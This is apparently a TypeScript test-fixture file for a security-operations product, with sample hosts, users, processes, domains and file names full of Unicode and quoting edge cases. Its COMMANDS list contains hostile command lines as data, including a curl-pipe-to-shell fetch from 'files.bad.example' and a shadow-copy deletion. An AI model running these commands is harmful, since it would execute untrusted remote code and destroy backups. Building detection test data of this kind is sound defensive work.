/** Host names, short and full; some with dashes, which entity ids double, and one that is not ASCII. */
export const HOSTS: readonly string[] = [
  'wks-0142',
  'wks-0377.corp.example',
  'srv-db-03.corp.example',
  'mail01.corp.example',
  'build-agent-7',
  'k8s-node-a.prod.example',
  'laptop-müller',
  'dc02.corp.example',
  'web-front-2.dmz.example',
  'プリンター-3f',
  'vpn-gw.example.net',
  'FINANCE-PC-9',
  'ip-10-4-2-17.eu.compute.example',
  'jump-host',
];

/** User names: mail addresses, domain accounts, non-ASCII names, quotes, right-to-left text, service accounts. */
export const USERS: readonly string[] = [
  'a.lindqvist@corp.example',
  'jörg.müller@corp.example',
  '山田太郎',
  'مريم.حداد@corp.example',
  'דנה-לוי',
  'CORP\\svc-backup',
  "m.o'brien@corp.example",
  'zoë "zo" van dijk',
  'release-bot🚀@ci.example',
  'administrator',
  'svc--legacy-sync@corp.example',
  'thi.nguyễn@corp.example',
  'p.silva@corp.example',
  'root',
];

export const PROCESSES: readonly string[] = [
  'powershell.exe',
  'rundll32.exe',
  'C:\\Windows\\Temp\\updäte.exe',
  '/usr/bin/curl',
  'winword.exe',
  'w3wp.exe',
];

export const COMMANDS: readonly string[] = [
  'powershell.exe -NoProfile -EncodedCommand SQBFAFgA',
  'cmd.exe /c "copy \\\\srv-db-03\\c$\\dump.bin C:\\Temp\\"',
  'vssadmin delete shadows /all /quiet',
  'curl -s http://files.bad.example/p.sh | sh',
  'wmic /node:"wks-0142" process call create "notepad.exe"',
];

export const DOMAINS: readonly string[] = [
  'files.bad.example',
  'xn--bcher-kva.example',
  'login-corp.example',
  'q7f3k-9zt2.example',
  'пример.example',
];

export const URLS: readonly string[] = [
  'http://files.bad.example/p.sh?a=1&b=%20x',
  'https://login-corp.example/reset/日本語',
  'https://q7f3k-9zt2.example:8443/beacon#t',
];

export const USER_AGENTS: readonly string[] = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
  'curl/8.5.0',
  'python-requests/2.31.0',
];

export const EMAILS: readonly string[] = [
  'billing@login-corp.example',
  'jörg.müller@corp.example',
  '"new offer" <win@bad.example>',
  'hr-team@corp.example',
];

export const FILES: readonly string[] = [
  'C:\\Users\\zoë\\Downloads\\Rechnung März.docm',
  '/var/www/html/up-load.php',
  'invoice_請求書.pdf.exe',
  'dump.bin',
];

/** Sensor zones; most entities have none (the default zone). */
export const ZONES: readonly string[] = ['dmz', 'plant-7', 'Zürich', 'lab'];

/** Analysts and teams that Insights are assigned to. */
export const ANALYSTS: readonly (readonly [username: string, displayName: string])[] = [
  ['i.castro@soc.example', 'Inês Castro'],
  ['k.müller@soc.example', 'Käthe Müller'],
  ['t.sato@soc.example', '佐藤 毅'],
];
export const TEAMS: readonly string[] = ['SOC Tier 1', 'Équipe Réponse'];

/** Tags that analysts add, beside the ATT&CK tags of the Signals. */
export const ANALYST_TAGS: readonly string[] = [
  'vip',
  'région:sud',
  '要確認',
  'review "soon"',
  '🔥',
  'קריטי',
];

/** Vendor and product of the records. */
export const PRODUCTS: readonly (readonly [vendor: string, product: string, stream: string])[] = [
  ['Microsoft', 'Windows', 'endpoint'],
  ['Amazon AWS', 'CloudTrail', 'audit'],
  ['Palo Alto Networks', 'Next Generation Firewall', 'network'],
  ['Okta', 'Single Sign-On', 'authentication'],
  ['Linux', 'Auditd', 'endpoint'],
];
